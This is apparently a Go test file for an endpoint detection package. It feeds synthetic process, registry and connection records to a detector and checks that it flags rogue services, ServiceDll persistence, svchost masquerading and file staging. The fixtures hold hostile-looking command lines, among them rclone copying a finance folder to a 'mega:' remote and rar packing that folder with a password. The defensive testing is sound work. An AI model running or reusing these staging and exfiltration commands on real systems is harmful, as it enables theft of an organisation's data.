package detect

import (
	"slices"
	"strings"
	"testing"

	"netcase"
)

// chain is the records of one way from a new service to a socket, on one host.
type chain struct{ list []netcase.Process }

const (
	socketPeer = "85.10.20.77"
	rogue      = `C:\ProgramData\Intel\igfx.exe`
	rogueDLL   = `C:\ProgramData\Intel\igfx.dll`
	properLine = `C:\Windows\System32\svchost.exe -k netsvcs -p -s igfx`
)

func (c *chain) add(minute int, role netcase.ProcessRole, change func(*netcase.Process)) *chain {
	p := netcase.Process{Time: monday + netcase.Time(minute)*netcase.Minute, Host: netcase.Endpoint{Name: "desk-1"}, OS: "Windows10", Role: role, Action: string(role), Sensor: "edr"}
	change(&p)
	c.list = append(c.list, p)
	return c
}

func (c *chain) service(minute int, program string) *chain {
	return c.add(minute, netcase.RoleService, func(p *netcase.Process) { p.Target, p.Detail = "igfx", program })
}

func (c *chain) library(minute int, path string) *chain {
	return c.add(minute, netcase.RoleRegistry, func(p *netcase.Process) {
		p.Image, p.Target, p.Detail = "powershell.exe", `HKLM\SYSTEM\CurrentControlSet\Services\igfx\Parameters\ServiceDll`, path
	})
}

func (c *chain) start(minute int, id uint32, path, line string) *chain {
	return c.add(minute, netcase.RoleStarted, func(p *netcase.Process) {
		p.ID, p.Path, p.Image, p.CommandLine, p.Parent = id, path, baseName(path), line, "services.exe"
	})
}

func (c *chain) load(minute int, id uint32, dll string) *chain {
	return c.add(minute, netcase.RoleLoaded, func(p *netcase.Process) {
		p.ID, p.Path, p.Image, p.Target = id, svchostPath, "svchost.exe", dll
	})
}

func (c *chain) end(minute int, id uint32) *chain {
	return c.add(minute, netcase.RoleEnded, func(p *netcase.Process) { p.ID, p.Image = id, "svchost.exe" })
}

func (c *chain) call(minute int, id uint32, path, peer string) *chain {
	return c.add(minute, netcase.RoleConnector, func(p *netcase.Process) {
		p.ID, p.Path, p.Image, p.Peer, p.RemotePort = id, path, baseName(path), end(peer), 443
	})
}

const svchostPath = `C:\Windows\System32\svchost.exe`

// owners are the findings of the detector that name something unusual.
func (c *chain) owners(t *testing.T) (out []netcase.Finding) {
	t.Helper()
	w := newTraffic()
	w.batch.Processes = c.list
	for _, f := range w.processes(t, socket()) {
		if f.Process.Socket.Unusual != "" {
			out = append(out, f)
		}
	}
	return out
}

// TestSocketChains: every way from a new service to its socket, and what only looks like
// one.
func TestSocketChains(t *testing.T) {
	for _, c := range []struct {
		name string
		c    *chain
		want string // the rule; empty: no owner is named
	}{
		{"a program by its path", new(chain).service(1, rogue).start(2, 7, rogue, rogue).call(3, 7, rogue, socketPeer), "new service"},
		{"without its start on record", new(chain).service(1, rogue).call(3, 0, rogue, socketPeer), "new service"},
		{"a library by the service's name", new(chain).library(1, rogueDLL).start(2, 7, svchostPath, properLine).call(3, 7, svchostPath, socketPeer), "ServiceDll"},
		{"a library by its load", new(chain).library(1, rogueDLL).start(2, 7, svchostPath, `svchost.exe -k netsvcs`).load(3, 7, rogueDLL).call(4, 7, svchostPath, socketPeer), "ServiceDll"},
		{"svchost of another service", new(chain).library(1, rogueDLL).start(2, 7, svchostPath, properLine).call(3, 8, svchostPath, socketPeer), ""},
		{"the id was given to another process", new(chain).library(1, rogueDLL).start(2, 7, svchostPath, properLine).start(3, 7, svchostPath, `svchost.exe -k netsvcs -p -s Schedule`).call(4, 7, svchostPath, socketPeer), ""},
		{"the process had ended", new(chain).library(1, rogueDLL).start(2, 7, svchostPath, properLine).end(3, 7).call(4, 7, svchostPath, socketPeer), ""},
		{"the service came later", new(chain).call(1, 7, rogue, socketPeer).service(2, rogue), ""},
		{"a service of an installer", new(chain).service(1, `C:\Program Files\Intel\igfx.exe`).call(3, 7, `C:\Program Files\Intel\igfx.exe`, socketPeer), ""},
		{"a library in System32", new(chain).add(1, netcase.RoleRegistry, func(p *netcase.Process) {
			p.Image, p.Target, p.Detail = "msiexec.exe", `HKLM\SYSTEM\CurrentControlSet\Services\igfx\Parameters\ServiceDll`, `C:\Windows\System32\igfx.dll`
		}).start(2, 7, svchostPath, properLine).call(3, 7, svchostPath, socketPeer), ""},
		{"it called a machine of ours", new(chain).service(1, rogue).call(3, 7, rogue, "10.0.0.9"), ""},
		{"another program called", new(chain).service(1, rogue).start(2, 7, rogue, rogue).call(3, 9, `C:\Program Files\Edge\msedge.exe`, socketPeer), ""},
		{"it poses as svchost", new(chain).call(3, 9, `C:\Users\a\AppData\svchost.exe`, socketPeer), "path"},
		{"it carries files", new(chain).start(1, 9, `C:\ProgramData\rclone.exe`, `rclone.exe copy D:\Finance mega:x`).call(2, 9, `C:\ProgramData\rclone.exe`, socketPeer), ruleStaging},
	} {
		found := c.c.owners(t)
		got := ""
		if len(found) > 0 {
			got = found[0].Process.Socket.Unusual
		}
		if got != c.want || len(found) > 1 {
			t.Errorf("%s: %q (%d findings), want %q", c.name, got, len(found), c.want)
		}
	}
}

// TestSocketWeight: the chain names every record in order; the weight is that of the rule
// where no other finding carries it.
func TestSocketWeight(t *testing.T) {
	f := new(chain).service(1, rogue).start(2, 7, rogue, rogue).call(3, 7, rogue, socketPeer).call(4, 7, rogue, socketPeer).
		call(5, 12, `C:\Program Files\Edge\msedge.exe`, "85.10.20.80").owners(t)
	if len(f) != 1 {
		t.Fatalf("%d findings", len(f))
	}
	p := f[0].Process
	if p.Decibans != weightMasquerade || p.Events != 2 || p.Socket.Programs != 2 || len(p.Socket.Chain) != 3 || p.Peer != end(socketPeer) {
		t.Errorf("%+v %+v", p, p.Socket)
	}
	for i, word := range []string{"service igfx", "was started as process 7", "opened a connection"} {
		if i >= len(p.Socket.Chain) || !strings.Contains(p.Socket.Chain[i], word) {
			t.Errorf("step %d: %q, want %q", i, p.Socket.Chain, word)
		}
	}
	if len(f[0].Evidence) != 1 || len(f[0].Evidence[0].Records) == 0 {
		t.Error("no record is cited")
	}
	if dll := new(chain).library(1, rogueDLL).start(2, 7, svchostPath, properLine).call(3, 7, svchostPath, socketPeer).owners(t); len(dll) != 1 || dll[0].Process.Decibans != 0 {
		t.Errorf("the detector of processes weighs the library: %+v", dll)
	}
}

// TestSocketMetamorphic: neither the order of the records nor records of other hosts
// change who owns a socket; a later time of everything moves the span and nothing else.
func TestSocketMetamorphic(t *testing.T) {
	base := func() *chain {
		return new(chain).service(1, rogue).start(2, 7, rogue, rogue).call(3, 7, rogue, socketPeer).call(9, 7, rogue, socketPeer)
	}
	want := base().owners(t)[0]
	turned := base()
	slices.Reverse(turned.list)
	if got := turned.owners(t); len(got) != 1 || got[0].Title != want.Title || got[0].Evidence[0].Statement != want.Evidence[0].Statement {
		t.Error("the order of the records shows")
	}
	crowded := base()
	for i := range 50 {
		crowded.call(i, 7, `C:\Program Files\Edge\msedge.exe`, "85.10.20.90")
		crowded.list[len(crowded.list)-1].Host.Name = "desk-2"
	}
	if got := crowded.owners(t); len(got) != 1 || got[0].Process.Socket.Programs != want.Process.Socket.Programs {
		t.Error("another host shows")
	}
	late := base()
	for i := range late.list {
		late.list[i].Time += netcase.Hour
	}
	if got := late.owners(t); len(got) != 1 || got[0].Span.Start != want.Span.Start+netcase.Hour || got[0].Process.Decibans != want.Process.Decibans {
		t.Error("a later time changes more than the span")
	}
}

// TestSocketQuiet: a day of ordinary programs that call outside names nobody.
func TestSocketQuiet(t *testing.T) {
	c := new(chain)
	for i := range 200 {
		c.start(i, uint32(100+i), svchostPath, `C:\Windows\System32\svchost.exe -k NetworkService -p -s Dnscache`).call(i, uint32(100+i), svchostPath, "85.10.20.53").
			call(i, 9, `C:\Program Files\Edge\msedge.exe`, "85.10.20.80")
	}
	if found := c.owners(t); len(found) != 0 {
		t.Errorf("%d findings, the first: %s", len(found), found[0].Title)
	}
}

// TestSocketGivenAnArchive: the command line of the program that sends names what was packed
// before, and only then.
func TestSocketGivenAnArchive(t *testing.T) {
	const rar, rclone = `C:\Tools\rar.exe`, `C:\Tools\rclone.exe`
	packs := func(c *chain, minute int) *chain {
		return c.start(minute, 6, rar, `rar.exe a -hpSecret C:\ProgramData\a.rar D:\Finance\*`)
	}
	sends := func(c *chain, minute int, line string) *chain {
		return c.start(minute, 7, rclone, line).call(minute+1, 7, rclone, socketPeer)
	}
	for name, c := range map[string]struct {
		c    *chain
		want string
	}{
		"what was packed":            {sends(packs(new(chain), 1), 5, `rclone.exe copy c:\programdata\A.rar mega:x`), `c:\programdata\A.rar`},
		"something else":             {sends(packs(new(chain), 1), 5, `rclone.exe copy C:\ProgramData\b.rar mega:x`), ""},
		"the folder":                 {sends(packs(new(chain), 1), 5, `rclone.exe copy D:\Finance mega:x`), ""},
		"it was packed later":        {packs(sends(new(chain), 1, `rclone.exe copy C:\ProgramData\a.rar mega:x`), 5), ""},
		"it was packed two days ago": {sends(packs(new(chain), 1), 2*24*60, `rclone.exe copy C:\ProgramData\a.rar mega:x`), ""},
		"only unpacked":              {sends(new(chain).start(1, 6, rar, `rar.exe x C:\ProgramData\a.rar C:\ProgramData`), 5, `rclone.exe copy C:\ProgramData\a.rar mega:x`), ""},
	} {
		found := c.c.owners(t)
		if len(found) != 1 {
			t.Fatalf("%s: %d findings", name, len(found))
		}
		s := found[0].Process.Socket
		if got := strings.Join(s.Archives, " "); got != c.want {
			t.Errorf("%s: given %q, want %q", name, got, c.want)
		}
		if told := strings.Contains(s.Chain[0], "rar.exe packed"); told != (c.want != "") {
			t.Errorf("%s: chain %q", name, s.Chain)
		}
	}
}
